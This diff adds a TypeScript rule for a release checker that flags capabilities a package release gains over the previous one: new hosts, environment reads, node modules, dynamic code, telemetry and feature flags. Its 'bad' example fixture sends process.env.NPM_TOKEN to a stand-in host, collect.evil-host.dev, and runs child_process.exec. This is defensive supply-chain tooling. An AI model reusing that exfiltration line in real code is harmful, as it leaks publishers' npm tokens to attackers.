@@ -1,0 +1,141 @@
+import * as z from 'zod'
+import type { Capabilities, Capability } from '../../baseline/inventory.ts'
+import { defineRule } from '../define.ts'
+import { release } from './content/example-releases.ts'
+import { releaseLabel } from './content/release-label.ts'
+
+/** Names in one message. */
+const NAMED = 10
+/** Read by so much code that a new reader says nothing. */
+const ORDINARY_VARIABLES = new Set([
+  'CI',
+  'COLORTERM',
+  'DEBUG',
+  'FORCE_COLOR',
+  'NODE_ENV',
+  'NO_COLOR',
+  'TERM',
+])
+const WHY = 'Code that a release did not have before reaches further than the last one did.'
+const FIX = 'Find the change that brought it in, and make sure that it is meant.'
+const KINDS = {
+  hosts: 'hosts',
+  environment: 'environment',
+  modules: 'modules',
+  dynamicCode: 'dynamic',
+  telemetry: 'telemetry',
+  featureFlags: 'flags',
+} as const satisfies Record<keyof Capabilities, string>
+
+const CODE = "module.exports = require('http').get('http://api.acme.dev/v1')\n"
+
+export default defineRule({
+  meta: {
+    id: 'change/capability',
+    title: 'What the code can do that the last release could not',
+    why: 'Stolen releases read tokens from the environment, start processes and send what they find to a host that the package never named. Releases that only mend something do none of this for the first time.',
+    fix: 'Find the change that brought it in. If it is meant, tell users in the release notes: some must know which hosts a package contacts.',
+    severity: { 'open-source': 'warning', proprietary: 'warning' },
+    since: '0.1.0',
+  },
+  options: z.strictObject({
+    hosts: z.array(z.string()).default([]).describe('Hosts that may appear, with the hosts below them.'),
+    environment: z.array(z.string()).default([]).describe('Environment variables that may be read.'),
+  }),
+  messages: {
+    hosts: { what: 'The code names {count|host|hosts} that {release} did not: {names}.', why: WHY, fix: FIX },
+    environment: {
+      what: 'The code reads {count|environment variable|environment variables} that {release} did not: {names}.',
+      why: 'Tokens and keys live in the environment.',
+      fix: FIX,
+    },
+    modules: {
+      what: 'The code uses modules of node that {release} did not: {names}.',
+      why: 'They start processes, reach the network or the file system, or run code.',
+      fix: FIX,
+    },
+    dynamic: {
+      what: 'The code runs text as code in a way that {release} did not: {names}.',
+      why: 'What such code does cannot be read in the package.',
+      fix: FIX,
+    },
+    telemetry: {
+      what: 'The code uses libraries for telemetry that {release} did not: {names}.',
+      why: 'They tell a service what users do, and users want to know.',
+      fix: 'Say so in the release notes, or leave it out.',
+    },
+    flags: {
+      what: 'The code asks for {count|feature flag|feature flags} that {release} did not: {names}.',
+      why: 'Names of flags tell what is coming.',
+      fix: 'Rename what must not be known, or leave the code out.',
+      severity: { 'open-source': 'notice', proprietary: 'notice' },
+    },
+  },
+  examples: {
+    bad: [
+      {
+        title: 'A token sent to a host',
+        before: release('1.0.0'),
+        files: release(
+          '1.0.1',
+          {},
+          {
+            'send.js':
+              "require('https').get('https://collect.evil-host.dev/?' + process.env.NPM_TOKEN)\nrequire('node:child_process').exec('id')\n",
+          },
+        ),
+      },
+    ],
+    good: [
+      {
+        title: 'The same as before',
+        before: release('1.0.0', {}, { 'get.js': CODE }),
+        files: release('1.0.1', {}, { 'get.js': `${CODE}// see https://docs.acme.dev\n` }),
+      },
+      {
+        title: 'What only a comment and a text name',
+        before: release('1.0.0'),
+        files: release(
+          '1.0.1',
+          {},
+          { 'say.js': "// require('net'), process.env.TOKEN\nexports.text = 'see http://acme.dev'\n" },
+        ),
+      },
+    ],
+  },
+  package({ comparison }, context) {
+    if (comparison === undefined) return
+    const { before, after } = comparison
+    for (const [kind, message] of Object.entries(KINDS) as [
+      keyof Capabilities,
+      (typeof KINDS)[keyof Capabilities],
+    ][]) {
+      const known = new Set(before.capabilities[kind].map(({ name }) => name))
+      const fresh = after.capabilities[kind].filter(
+        (one) => !known.has(one.name) && !isAllowed(kind, one, context.options),
+      )
+      if (fresh.length === 0) continue
+      const names = fresh.slice(0, NAMED).map(({ name }) => name)
+      context.report({
+        message,
+        data: {
+          count: fresh.length,
+          names: fresh.length > NAMED ? [...names, `${fresh.length - NAMED} more`] : names,
+          release: releaseLabel(before),
+        },
+        at: fresh.map(({ name, path }) => ({ path, evidence: name })),
+        group: message,
+      })
+    }
+  },
+})
+
+function isAllowed(
+  kind: keyof Capabilities,
+  { name }: Capability,
+  options: { readonly hosts: readonly string[]; readonly environment: readonly string[] },
+): boolean {
+  if (kind === 'environment') return ORDINARY_VARIABLES.has(name) || options.environment.includes(name)
+  if (kind !== 'hosts') return false
+  return options.hosts.some((host) => name === host || name.endsWith(`.${host}`))
+}
